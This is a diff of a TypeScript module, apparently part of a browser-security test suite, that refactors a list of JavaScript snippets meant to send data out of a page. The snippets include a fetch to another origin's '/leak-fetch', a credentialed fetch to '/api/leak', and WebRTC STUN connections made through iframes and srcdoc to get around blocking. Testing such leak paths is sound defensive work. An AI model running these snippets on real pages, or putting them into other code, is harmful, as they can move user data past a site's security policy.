@@ -13,8 +13,7 @@ export interface Attack {
   readonly code: (target: AttackTarget) => string;
 }
 
-/** Ways to send a request that leave the page where it is; all run in one page. */
-export const requests: readonly Attack[] = [
+const requestTemplates: readonly Attack[] = [
   { name: 'fetch', code: ({ other }) => `fetch('${other}/leak-fetch', { mode: 'no-cors' })` },
   { name: 'fetch-site', code: ({ site }) => `fetch('${site}/api/leak', { credentials: 'include' })` },
   {
@@ -215,36 +214,38 @@ export const requests: readonly Attack[] = [
   },
   {
     name: 'webrtc',
-    code: ({ stun }) =>
-      `const P = window.RTCPeerConnection || window.webkitRTCPeerConnection; ${rtc('P', 'window', '')}`,
+    code: () => `const P = window.RTCPeerConnection || window.webkitRTCPeerConnection; ${rtc('P')}`,
   },
   {
     name: 'webrtc-again',
-    code: ({ stun }) =>
+    code: () =>
       `for (const key of Object.getOwnPropertyNames(window)) if (/rtc/i.test(key)) console.log('FOUND ' + key)`,
   },
   {
     name: 'webrtc-frame',
-    code: ({ stun }) =>
-      `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; const P = w.RTCPeerConnection; ${rtc('P', 'w', '')}`,
+    code: () =>
+      `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; const P = w.RTCPeerConnection; ${rtc('P')}`,
   },
   {
     name: 'webrtc-srcdoc',
-    code: ({ stun }) =>
-      `const f = document.createElement('iframe'); f.srcdoc = '<script>const p = new RTCPeerConnection({iceServers:[{urls:"${stun}"}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))</script>'; document.body.append(f)`,
+    code: () =>
+      `const f = document.createElement('iframe'); f.srcdoc = '<script>const p = new RTCPeerConnection({iceServers:[{urls:"STUN"}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))</script>'; document.body.append(f)`,
   },
   {
     name: 'webrtc-frames-array',
     code: () =>
-      `const f = document.createElement('iframe'); document.body.append(f); const P = window[0].RTCPeerConnection; ${rtc('P', 'window', '')}`,
+      `const f = document.createElement('iframe'); document.body.append(f); const P = window[0].RTCPeerConnection; ${rtc('P')}`,
   },
-].map((attack) => ({
+];
+
+/** Ways to send a request that leave the page where it is; all run in one page. */
+export const requests: readonly Attack[] = requestTemplates.map((attack) => ({
   name: attack.name,
   code: (target: AttackTarget) => attack.code(target).replaceAll('STUN', target.stun),
 }));
 
-function rtc(constructor: string, _scope: string, _extra: string): string {
-  return `if (${constructor}) { console.log('FOUND WebRTC'); const p = new ${constructor}({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`;
+function rtc(maker: string): string {
+  return `if (${maker}) { console.log('FOUND WebRTC'); const p = new ${maker}({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`;
 }
 
 /** Ways to leave: each in a page of its own. */
